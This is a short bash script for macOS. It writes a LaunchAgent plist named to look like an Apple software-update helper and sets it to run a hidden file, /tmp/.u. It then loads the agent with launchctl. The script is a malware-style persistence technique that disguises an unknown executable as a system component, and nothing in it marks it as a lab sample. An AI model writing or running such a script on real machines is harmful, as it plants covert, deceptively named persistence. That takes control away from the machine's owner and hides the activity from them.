#!/bin/bash
cat > ~/Library/LaunchAgents/com.apple.softwareupdate.helper.plist <<EOF
<plist><dict><key>ProgramArguments</key><array><string>/tmp/.u</string></array></dict></plist>
EOF
launchctl load ~/Library/LaunchAgents/com.apple.softwareupdate.helper.plist
